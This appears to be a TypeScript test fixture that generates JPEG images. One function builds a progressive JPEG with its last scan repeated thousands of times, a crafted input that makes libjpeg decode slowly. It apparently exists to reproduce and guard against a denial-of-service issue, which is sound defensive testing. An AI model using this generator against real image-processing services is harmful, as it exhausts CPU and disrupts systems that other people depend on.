import sharp from 'sharp';

/** A uniform progressive JPEG made by sharp (mozjpeg's scan script: 10 scans for YCbCr). */
export function progressiveJpeg(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 120, g: 90, b: 60 } } })
    .jpeg({ progressive: true, quality: 90 })
    .toBuffer();
}

/**
 * The attack of issue 36.1: a progressive JPEG whose last scan (an AC refinement of one component, a dozen
 * bytes for a uniform image) is repeated `extra` times before EOI. The copies say Ah = Al = 0, so libjpeg
 * takes each as a valid first AC scan of an already complete band and walks every block of the component
 * again: ~0.4 ms per scan at 1920x1080, 20,000 scans (259 KB) ~8 s of decode.
 */
export async function manyScanJpeg(width: number, height: number, extra: number): Promise<Buffer> {
  const base = await progressiveJpeg(width, height);
  // Entropy-coded data never holds FF DA (a 0xFF there is stuffed as FF 00), so the last FF DA is the last scan.
  let sos = base.length - 2;
  while (!(base[sos] === 0xff && base[sos + 1] === 0xda)) sos--;
  const scan = Buffer.from(base.subarray(sos, base.length - 2)); // up to EOI (FF D9)
  const headerLength = scan.readUInt16BE(2);
  scan[2 + headerLength - 1] = 0x00; // Ah/Al, the header's last byte
  return Buffer.concat([
    base.subarray(0, base.length - 2),
    ...Array<Buffer>(extra).fill(scan),
    Buffer.from([0xff, 0xd9]),
  ]);
}
